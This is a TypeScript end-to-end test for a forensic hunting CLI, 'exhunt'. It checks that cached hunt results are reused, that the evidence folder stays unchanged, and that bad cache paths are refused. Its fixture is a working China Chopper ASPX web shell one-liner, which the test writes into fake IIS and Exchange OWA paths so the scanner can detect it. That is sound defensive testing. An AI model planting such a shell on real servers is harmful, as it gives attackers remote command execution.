// `--cache DIR` through the CLI: a second hunt reuses the per-content results and reports the same
// findings; the cache never lands in the evidence.
import assert from 'node:assert/strict'
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import type { HuntReport } from '../../src/shared/types.ts'
import { tmpDir } from '../helpers/tmp.ts'
import { runCli } from './cli.ts'

const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'

function evidence(): string {
  const d = tmpDir('exhunt-e2e-cache-')
  for (const rel of [
    'C/inetpub/wwwroot/aspnet_client/system_web/a.aspx',
    'C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/b.aspx',
  ]) {
    const p = join(d, rel)
    mkdirSync(join(p, '..'), { recursive: true })
    writeFileSync(p, CHOPPER)
  }
  return d
}

const listing = (dir: string) => readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort()
const shape = (r: HuntReport) =>
  r.findings.map((f) => [f.id, f.rule, f.severity, f.source.path, f.fields?.rules]).sort()

describe('exhunt hunt --cache DIR', () => {
  it('a repeated hunt gives the same findings from the cache, and the evidence is untouched', async () => {
    const ev = evidence()
    const before = listing(ev)
    const cache = join(tmpDir('exhunt-e2e-cachedir-'), 'c')
    const args = ['hunt', ev, '--only', 'files', '-f', 'json', '--no-progress', '--cache', cache]
    const first = await runCli(args)
    assert.equal(first.code, 1, first.stderr)
    const entries = listing(cache).filter((n) => n.endsWith('.json'))
    assert.equal(entries.length, 1, 'two copies, one content, one entry')
    const second = await runCli(args)
    assert.equal(second.code, 1, second.stderr)
    const a = JSON.parse(first.stdout) as HuntReport
    const b = JSON.parse(second.stdout) as HuntReport
    assert.equal(a.findings.length, 2)
    assert.deepEqual(shape(b), shape(a))
    assert.deepEqual(listing(ev), before)
  })

  it('a cache folder inside the evidence, or a file, is refused before the hunt', async () => {
    const ev = evidence()
    const inside = join(ev, 'C', 'cache')
    const r = await runCli(['hunt', ev, '--no-progress', '--cache', inside])
    assert.equal(r.code, 2)
    assert.match(r.stderr, /--cache .* is inside the evidence/)
    const file = join(ev, 'C/inetpub/wwwroot/aspnet_client/system_web/a.aspx')
    const f = await runCli(['hunt', ev, '--no-progress', '--cache', file])
    assert.equal(f.code, 2)
    assert.match(f.stderr, /--cache .* is not a folder/)
  })
})
